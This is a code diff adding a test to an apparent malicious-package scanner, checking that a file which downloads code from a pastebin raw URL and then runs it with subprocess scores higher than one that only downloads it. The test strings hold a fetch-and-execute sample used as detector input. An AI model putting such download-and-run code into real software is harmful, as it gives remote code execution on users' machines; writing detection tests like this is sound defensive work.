@@ -238,3 +238,17 @@ def test_public_address_url_next_to_shell_commands(engine: Engine) -> None:
     assert "exec" in evidence[0]["capabilities"]
     local = code.replace("45.12.77.3", "127.0.0.1")
     assert run_rule(engine, raw_ip_endpoint_rule, npm_tarball({"lib/c.js": local})) is None
+
+
+def test_paste_site_stage_that_the_same_file_runs_weighs_more(engine: Engine) -> None:
+    from tests.analysis.builders import package
+    from threatfeed.analysis.scoring import rule_points
+
+    fetch = "import requests\ncode = requests.get('https://pastebin.com/raw/abc123').text\n"
+    run = fetch + "import subprocess\nsubprocess.run(['python', '-c', code])\n"
+    points = []
+    for code in (run, fetch):
+        found = staging_host_rule(package(engine, sdist({"t/p.py": code})))
+        assert found is not None
+        points.append(rule_points(found))
+    assert points[0] > points[1]
